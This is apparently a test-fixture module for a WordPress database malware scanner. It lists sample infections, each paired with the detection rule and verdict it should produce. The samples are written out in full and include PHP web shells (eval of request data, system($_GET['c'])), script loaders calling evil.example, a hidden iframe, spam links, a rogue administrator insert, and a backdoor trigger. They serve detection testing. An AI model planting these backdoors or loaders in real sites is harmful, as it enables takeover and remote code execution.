"""What intruders leave in a WordPress database, written by us and harmless: each with what it must be called."""

from dataclasses import dataclass

from sentry.domain.finding import FindingClass

CONFIRMED, SUSPICIOUS = FindingClass.CONFIRMED, FindingClass.SUSPICIOUS

ROGUE = (
    "INSERT INTO wp_users (ID, user_login, user_pass, user_nicename, user_email, user_registered) VALUES"
    " (91, 'wp-system1', '5f4dcc3b5aa765d61d8327deb882cf99', 'w', 'nobody', '0000-00-00 00:00:00'); "
    "INSERT INTO wp_usermeta (user_id, meta_key, meta_value)"
    " VALUES (91, 'wp_capabilities', 'a:1:{s:13:\"administrator\";b:1;}')"
)
RIGHTS_BEYOND = (
    "INSERT INTO wp_users (ID, user_login, user_pass, user_nicename, user_email, user_registered) VALUES"
    " (92, 'maria', '$P$Babcdefghijklmnopqrstuvwxyz0123', 'maria', 'maria@example.org', '2024-01-02 03:04:05'); "
    "INSERT INTO wp_usermeta (user_id, meta_key, meta_value) VALUES (92, 'nickname', 'maria'),"
    " (92, 'wp_capabilities', 'a:2:{s:10:\"subscriber\";b:1;s:12:\"edit_plugins\";b:1;}')"
)


def in_post(number: int, content: str, kind: str = "post") -> str:
    """Returns the statement that puts a post there; the content is without single quotes and backslashes."""
    return (
        "INSERT INTO wp_posts (ID, post_type, post_status, post_title, post_content, post_excerpt, to_ping, pinged,"
        f" post_content_filtered) VALUES ({number}, '{kind}', 'publish', 'News', '{content}', '', '', '', '')"
    )


def in_option(name: str, value: str) -> str:
    """Returns the statement that sets an option."""
    return (  # a test's own texts
        f"INSERT INTO wp_options (option_name, option_value) VALUES ('{name}', '{value}')"
        " ON DUPLICATE KEY UPDATE option_value = VALUES(option_value)"
    )


SPAM = "".join(f'<a href="https://pills-{number}.example">cheap pills</a> ' for number in range(4))
HIDDEN_SPAM = f'<div style="position:absolute; left:-9999px">{SPAM}</div>'
WIDGET = f'<p>Opening hours</p><div style="display:none">{SPAM}</div>'
LOADER = (
    '<script>var s=document.createElement("script");s.src=atob("aHR0cHM6Ly9ldmlsLmV4YW1wbGUvYS5qcw==");'
    "document.head.appendChild(s);</script>"
)
PACKED_PHP = "PD9waHAgQGV2YWwoJF9QT1NUWyJjbWQiXSk7IC8vIGFuIGluZXJ0IHNhbXBsZSBvZiB0aGUgdGVzdHMsIG5ldmVyIHJ1bg=="


@dataclass(frozen=True, slots=True)
class Infection:
    """One thing that intruders do to a database.

    Attributes:
        rule: one that must be among the signs.
        place: what the path of the finding begins with.
    """

    name: str
    sql: str
    rule: str
    verdict: FindingClass
    place: str


def serialized_widget(text: str) -> str:
    """Returns the option of a widget with a text in it, as WordPress keeps it."""
    return f'a:2:{{i:2;a:2:{{s:5:"title";s:0:"";s:7:"content";s:{len(text)}:"{text}";}}s:12:"_multiwidget";i:1;}}'


INFECTIONS = (
    Infection("an administrator", ROGUE, "db_admin_in_disguise", CONFIRMED, "wp_users ID=91"),
    Infection("rights", RIGHTS_BEYOND, "db_rights_beyond_role", SUSPICIOUS, "wp_users ID=92"),
    Infection("a script", in_post(501, f"Hello {LOADER}"), "db_script_loads_hidden", CONFIRMED, "wp_posts ID=501"),
    Infection(
        "a foreign script",
        in_post(502, '<p>x</p><script src="//cdn.evil.example/a.js"></script>'),
        "db_foreign_script",
        SUSPICIOUS,
        "wp_posts ID=502",
    ),
    Infection("hidden links", in_post(503, HIDDEN_SPAM), "db_hidden_links", CONFIRMED, "wp_posts ID=503"),
    Infection(
        "hidden links in a widget",
        in_option("widget_block", serialized_widget(WIDGET)),
        "db_hidden_links",
        CONFIRMED,
        "wp_options option_id=",
    ),
    Infection(
        "a frame",
        in_post(504, '<iframe src="https://evil.example/x" width="1" height="1"></iframe>', "page"),
        "db_hidden_frame",
        CONFIRMED,
        "wp_posts ID=504",
    ),
    Infection(
        "a handler",
        in_post(505, '<img src="x" onerror="eval(atob(this.alt))" alt="YWxlcnQoMSk=">'),
        "db_script_runs_hidden",
        CONFIRMED,
        "wp_posts ID=505",
    ),
    Infection(
        "an address",
        in_option("siteurl", "https://elsewhere.example/"),
        "db_address_foreign",
        SUSPICIOUS,
        "wp_options siteurl",
    ),
    Infection(
        "a home with a script",
        in_option("home", "https://evil.example/a.js?x="),
        "db_address_abused",
        CONFIRMED,
        "wp_options home",
    ),
    Infection(
        "a door",
        f"{in_option('default_role', 'administrator')}; {in_option('users_can_register', '1')}",
        "db_open_door",
        FindingClass.EXPOSED,
        "wp_options default_role",
    ),
    Infection(
        "a plugin that is none",
        in_option("active_plugins", 'a:1:{i:0;s:25:"../uploads/2024/cache.jpg";}'),
        "db_plugin_elsewhere",
        SUSPICIOUS,
        "wp_options active_plugins",
    ),
    Infection(
        "a cron event",
        in_option(
            "cron",
            'a:2:{i:1700000000;a:1:{s:14:"wp_x9f3a1b7c2d";a:1:{s:32:"40cd750bba9870f18aada2478b24840a";'
            'a:3:{s:8:"schedule";s:6:"hourly";s:4:"args";a:0:{}s:8:"interval";i:3600;}}}s:7:"version";i:2;}',
        ),
        "db_cron_made_up",
        SUSPICIOUS,
        "wp_options cron wp_x9f3a1b7c2d",
    ),
    Infection(
        "PHP in an option",
        in_option("theme_cache_x", "@eval(base64_decode($_POST[0]));"),
        "request_to_code",
        CONFIRMED,
        "wp_options option_id=",
    ),
    Infection(
        "packed PHP in an option", in_option("theme_cache_y", PACKED_PHP), "request_to_code", CONFIRMED, "wp_options"
    ),
    Infection(
        "a snippet",
        "CREATE TABLE wp_snippets (id BIGINT PRIMARY KEY, name TEXT, code LONGTEXT, active INT); "
        "INSERT INTO wp_snippets VALUES (1, 'Tweaks', 'system($_GET[\"c\"]);', 1)",
        "request_to_command",
        CONFIRMED,
        "wp_snippets id=1 code",
    ),
    Infection(
        "a snippet of WPCode",
        in_post(506, 'add_action("init", function () { eval($_REQUEST["q"]); });', "wpcode"),
        "request_to_code",
        CONFIRMED,
        "wp_posts ID=506",
    ),
)
"""What MySQL and SQLite can both hold."""

PROGRAMS = (
    Infection(
        "a trigger",
        "CREATE TRIGGER after_comment AFTER INSERT ON wp_comments FOR EACH ROW BEGIN"
        " IF NEW.comment_content LIKE '%sesame%' THEN"
        " INSERT INTO wp_users (user_login, user_pass) VALUES ('x', 'y'); END IF; END",
        "db_program_makes_people",
        CONFIRMED,
        "trigger after_comment",
    ),
    Infection(
        "an event",
        "CREATE EVENT refresh ON SCHEDULE EVERY 1 DAY DO"
        " UPDATE wp_options SET option_value = 'https://elsewhere.example' WHERE option_name = 'home'",
        "db_program_changes",
        SUSPICIOUS,
        "event refresh",
    ),
    Infection(
        "a routine",
        "CREATE DEFINER=site@localhost PROCEDURE harmless() SELECT 1",
        "db_program",
        FindingClass.ADVICE,
        "routine harmless",
    ),
)
"""What only MySQL has in this form."""
